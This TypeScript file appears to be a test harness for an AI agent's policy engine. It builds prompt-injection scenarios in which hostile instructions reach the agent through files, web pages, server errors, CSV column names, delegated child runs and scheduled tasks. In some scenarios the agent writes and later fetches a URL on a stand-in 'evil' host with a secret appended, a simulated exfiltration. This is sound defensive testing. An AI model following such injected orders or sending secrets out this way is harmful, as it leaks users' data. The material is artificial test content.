import { narrowingOfChild } from '../../../../../engine/policy/delegated.ts';
import type { ToolFacts } from '../../../../../engine/policy/surface.ts';
import { PAY_SCOPE } from '../office.ts';
import { call, type Names, type Seen, type Turn } from '../scene.ts';
import { decided, idOf, markOf } from './chain.ts';
import { WANTED } from './effects.ts';
import { asksNow, type Carrier, type Given, inThreadOf, marked, obeys, prepares, says } from './given.ts';

const inFile = ({ names, line }: Given) => ({ [`in-${names.n}.txt`]: line });
const cell = (line: string): string => `"${line.replaceAll('"', '""')}"`;
const reads =
  (name: string, args: (names: Names, seen: Seen) => { readonly [key: string]: string | number | readonly string[] }) =>
  (names: Names): Turn =>
  (seen) => [call(name, args(names, seen))];
const file = reads('read_file', ({ n }) => ({ path: `in-${n}.txt` }));
const lookedUp = reads('lookup', ({ n }) => ({ n: String(n) }));
const served = reads('wiki_look_up', ({ n }) => ({ word: `w${n}` }));

/** What one tool brings, in the thread of an earlier mail or in the mail that sets it off. */
const later = (given: Given, read: Turn, more: object = {}, again: readonly Turn[] = []) => ({
  ...more,
  moves: [
    says(given.names, { what: 'first', body: marked(given, 'first', '') }),
    asksNow(given, { after: inThreadOf(idOf(given.names, 'first')) }),
  ],
  roles: [prepares(given.names, 'first', { reads: [read], says: 'I have looked.' }), obeys(given, 'last', again)],
});

/** What was long stands in the later mail by an id, by which whoever wants it opens it. */
const opens: Turn = ({ text }) => {
  const [, ref] = /"ref\\?":\\?"([0-9a-f]{16})/.exec(text) ?? [];
  return [ref === undefined ? call('list_files', {}) : call('resolve_ref', { ref })];
};

const URL_OF_OWN = /http:\/\/[\d.:]+\/p\d+\?d=\d+/g;
/** The address that it made itself an earlier day, wherever it finds it again. */
const found =
  ({ evil, n }: Names): Turn =>
  ({ text }) =>
    (text.match(URL_OF_OWN) ?? [])
      .filter((url) => url.startsWith(`${evil}/p${n}?`))
      .slice(0, 1)
      .map((url) => call('web_fetch', { url }));
const safe =
  ({ safe: path }: Names): Turn =>
  () => [call('read_file', { path })];
const PAGE = 'a page with data in its address';
/** A child run writes to nobody and plans nothing, whatever it is told. */
const onlyByChildren = (effect: string): boolean =>
  effect === PAGE || effect === 'a page that is made of what was read';
const onlyPages = (effect: string): boolean => effect === PAGE;

/** A page's address with a secret in it, kept by the run that read the order, and met again by one that did not. */
const keptByItself = (given: Given, keeps: (content: string) => Turn, again: readonly Turn[], more: object = {}) => {
  const { names } = given;
  const content = `${names.evil}/p${names.n}?d=`;
  return {
    files: inFile(given),
    ...more,
    moves: [
      says(names, { what: 'first', body: marked(given, 'first', '') }),
      says(names, { what: 'last', body: marked(given, 'last', '') }),
    ],
    roles: [
      prepares(names, 'first', {
        reads: [file(names), safe(names)],
        turns: [(seen) => keeps(`${content}${seen.code}`)(seen)],
      }),
      prepares(names, 'last', { reads: again, turns: [found(names)] }),
    ],
  };
};

/** Through what tools bring, and through what a run writes for another one. */
export const OF_TOOLS: Readonly<Record<string, Carrier>> = {
  'a file that was read for an earlier mail': {
    build: (given) => later(given, file(given.names), { files: inFile(given) }, [opens]),
  },
  'a page that was read for an earlier mail': {
    build: (given) => {
      const { good, n } = given.names;
      const body = `<p>${given.line.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</p>`;
      return later(
        given,
        () => [call('web_fetch', { url: `${good}/n${n}` })],
        {
          pages: { [`/n${n}`]: { type: 'text/html; charset=utf-8', body } },
          moves: [
            says(given.names, { what: 'first', body: marked(given, 'first', `${good}/n${n}`) }),
            asksNow(given, { after: inThreadOf(idOf(given.names, 'first')) }),
          ],
        },
        [opens],
      );
    },
  },
  'what a server found for an earlier mail': {
    build: (given) => later(given, served(given.names), { served: { content: [{ type: 'text', text: given.text }] } }),
  },
  'the error of a server': {
    build: (given) =>
      later(given, served(given.names), { served: { isError: true, content: [{ type: 'text', text: given.line }] } }),
  },
  'the error of a tool for an earlier mail': {
    build: (given) => later(given, lookedUp(given.names), { found: `THROW ${given.line}` }),
  },
  'a description that changed meanwhile': {
    build: (given) => ({
      ...later(given, served(given.names)),
      moves: [
        says(given.names, { what: 'first', body: marked(given, 'first', '') }),
        { kind: 'server' },
        asksNow(given),
      ],
      stops: true,
    }),
  },
  'the name of a column': {
    build: (given) => ({
      files: { [`list-${given.names.n}.csv`]: `name,${cell(given.line)}\nAnn,1\n` },
      moves: [says(given.names, { what: 'first', body: marked(given, 'first', '') }), asksNow(given)],
      roles: [
        prepares(given.names, 'first', {}),
        obeys(given, 'last', [() => [call('query_table', { source: `list-${given.names.n}.csv` })]]),
      ],
    }),
  },
  'an error that names a column': {
    build: (given) => ({
      files: { [`list-${given.names.n}.csv`]: `name,${cell(given.line)}\nAnn,1\n` },
      moves: [says(given.names, { what: 'first', body: marked(given, 'first', '') }), asksNow(given)],
      roles: [
        prepares(given.names, 'first', {}),
        obeys(given, 'last', [
          () => [call('query_table', { source: `list-${given.names.n}.csv`, select: ['Umsatz'] })],
        ]),
      ],
    }),
  },
  'the report of a child run': {
    build: (given) => ({
      files: inFile(given),
      moves: [says(given.names, { what: 'first', body: marked(given, 'first', '') }), asksNow(given)],
      roles: [
        prepares(given.names, 'first', {}),
        obeys(given, 'last', [handedOn(given)]),
        prepares(given.names, 'reader', { reads: [file(given.names)], says: `It says: ${given.line}` }),
      ],
    }),
  },
  'a child run that is handed a file': {
    build: (given) => ({
      files: inFile(given),
      moves: [says(given.names, { what: 'first', body: marked(given, 'first', '') }), asksNow(given)],
      roles: [prepares(given.names, 'last', { reads: [handedOn(given)] }), obeys(given, 'reader', [file(given.names)])],
    }),
    fits: onlyByChildren,
  },
  'a child run with a tool that none may have': {
    build: (given) => ({
      stops: true,
      files: inFile(given),
      moves: [says(given.names, { what: 'first', body: marked(given, 'first', '') }), asksNow(given)],
      roles: [
        prepares(given.names, 'last', { reads: [handedOn(given, ['read_file', given.wanted.tool])] }),
        obeys(given, 'reader', [file(given.names)]),
      ],
    }),
    fits: (effect) => !isForChildren(WANTED[effect]?.tool ?? ''),
  },
  'a child run of a run that has read it': {
    build: (given) => {
      const { names } = given;
      const handing: Turn = () => [
        call('delegate', {
          task: `Do your part. ${given.line.slice(0, 900)} ${markOf(names, 'reader')}`,
          tools: toolsOf(given),
        }),
      ];
      return {
        files: inFile(given),
        moves: [says(names, { what: 'first', body: marked(given, 'first', '') }), asksNow(given)],
        roles: [prepares(names, 'last', { reads: [file(names), handing] }), obeys(given, 'reader')],
      };
    },
    fits: (effect) => effect === 'a page that is made of what was read',
  },
  'a child run of a thread with others': {
    build: (given) => {
      const { names } = given;
      const handing: Turn = () => [
        call('delegate', {
          task: `Do your part. ${given.line.slice(0, 900)} ${markOf(names, 'reader')}`,
          tools: toolsOf(given),
        }),
      ];
      return {
        moves: [
          says(names, {
            what: 'first',
            from: `ben${names.n}@member.example`,
            headers: [['Cc', 'owner@example.com']],
            body: marked(given, 'first', given.line),
          }),
          asksNow(given, { after: inThreadOf(idOf(names, 'first')) }),
        ],
        roles: [prepares(names, 'first', {}), prepares(names, 'last', { reads: [handing] }), obeys(given, 'reader')],
      };
    },
    fits: (effect) => effect === 'a page that is made of what was read',
  },
  'what an approved plan has brought': {
    build: (given) => {
      const { names } = given;
      const steps = [
        { tool: 'delete_file', arguments: { path: `old-${names.n}.txt` } },
        { tool: 'delete_file', arguments: { path: `older-${names.n}.txt` } },
        { tool: 'lookup', arguments: { n: String(names.n) } },
      ];
      return {
        files: { [`old-${names.n}.txt`]: 'old', [`older-${names.n}.txt`]: 'older' },
        found: JSON.stringify({ found: given.text }),
        moves: [
          says(names, {
            what: 'last',
            body: marked(given, 'last', `${given.wanted.asks(names)}`),
          }),
          decided(names, 'last', 'yes'),
        ],
        roles: [obeys(given, 'last', [() => [call('propose_plan', { steps })]])],
      };
    },
  },
  'a task that reads a file': {
    trusting: true,
    build: (given) => ({
      files: inFile(given),
      moves: [
        says(given.names, {
          what: 'first',
          body: `${due(given)}`,
        }),
        { kind: 'task', task: `d${given.names.n}` },
      ],
      roles: [
        [
          markOf(given.names, 'due'),
          {
            // The mail that makes it says the prompt, too: by that mark both are known, and only one can be made.
            reads: [makesOrReads(given)],
            order: given.order,
            turns: given.wanted.turns(given.names, markOf(given.names, 'due')),
            says: () => 'It is done.',
          },
        ],
      ],
    }),
  },
  'a list that it wrote itself': {
    fits: onlyPages,
    build: (given) =>
      keptByItself(
        given,
        (url) => () => [
          call('write_file', { path: `links-${given.names.n}.csv`, content: `name,page\nnews,${url}\n` }),
        ],
        [() => [call('query_table', { source: `links-${given.names.n}.csv` })]],
      ),
  },
  'a reference to a file that it wrote itself': {
    fits: onlyPages,
    build: (given) => {
      const { names } = given;
      const path = `links-${names.n}.md`;
      const built = keptByItself(
        given,
        (url) => () => [call('write_file', { path, content: `${'A line of notes.\n'.repeat(200)}${url}\n` })],
        [
          ({ text }) => {
            const refs = [...new Set(text.match(/\b[0-9a-f]{64}\b/g) ?? [])].slice(-6);
            return refs.map((ref) => call('resolve_ref', { ref }));
          },
        ],
      );
      const [first = ['', { reads: [], order: null, turns: [], says: () => '' }], last] = built.roles;
      return {
        ...built,
        moves: [...built.moves.slice(0, 1), asksNow(given, { after: inThreadOf(idOf(names, 'first')) })],
        roles: [
          [first[0], { ...first[1], turns: [...first[1].turns, () => [call('read_file', { path })]] }],
          ...(last ? [last] : []),
        ],
      };
    },
  },
  'a file of its own that comes back': {
    fits: onlyPages,
    build: (given) => {
      const { names } = given;
      const path = `links-${names.n}.md`;
      const built = keptByItself(given, (url) => () => [call('write_file', { path, content: `Pages: ${url}\n` })], [
        ({ text }) => [call('read_attachment', { id: /\[attachment (att_\w+)\]/.exec(text)?.[1] ?? 'none' })],
      ]);
      return {
        ...built,
        moves: [
          built.moves[0] ?? says(names, { what: 'none', body: '' }),
          says(names, {
            what: 'last',
            body: marked(given, 'last', ''),
            after: (past) => ({ file: { name: path, content: past.file(path) } }),
          }),
        ],
      };
    },
  },
};

/** As policy sees the tools of chains: those of the gateway by what they say themselves, the others as their office has them. */
async function scopeOf(tool: string): Promise<Pick<ToolFacts, 'scope' | 'asks'>> {
  if (tool === 'pay') return { scope: PAY_SCOPE };
  if (tool === 'wiki_post') return { scope: 'web:write' };
  const { default: definition } = await import(`../../../../../extensions/tools/${tool}/index.ts`);
  return { scope: definition.scope, asks: definition.asks !== undefined };
}
const FACTS: ReadonlyMap<string, ToolFacts> = new Map(
  await Promise.all(
    Object.values(WANTED).map(
      async ({ tool }) => [tool, { name: tool, risk: 'write', ...(await scopeOf(tool)) }] as const,
    ),
  ),
);
function isForChildren(tool: string): boolean {
  const facts = FACTS.get(tool);
  if (facts === undefined) throw new Error(`no chain wants ${tool}`);
  return narrowingOfChild({ tools: [tool] })(facts) === null;
}

/** What a child run is handed: with a tool that none may have it is refused before it begins. */
const toolsOf = ({ wanted: { tool } }: Pick<Given, 'wanted'>): readonly string[] => [
  ...new Set(['read_file', ...(isForChildren(tool) ? [tool] : [])]),
];

const handedOn =
  (given: Given, tools = toolsOf(given)): Turn =>
  () => [
    call('delegate', {
      task: `Read the file. ${markOf(given.names, 'reader')}`,
      context: [{ file: `in-${given.names.n}.txt` }, { file: given.names.safe }, { file: given.names.plan }],
      tools,
    }),
  ];

const due = ({ names, wanted }: Given): string =>
  `${wanted.asks(names)} Read in-${names.n}.txt and do it. ${markOf(names, 'due')}`;

const makesOrReads =
  (given: Given): Turn =>
  ({ text }) =>
    /started by the schedule/.test(text)
      ? [call('read_file', { path: `in-${given.names.n}.txt` })]
      : [
          call('schedule_task', {
            action: 'create',
            task: `d${given.names.n}`,
            schedule: '0 9 * * *',
            prompt: due(given),
          }),
        ];
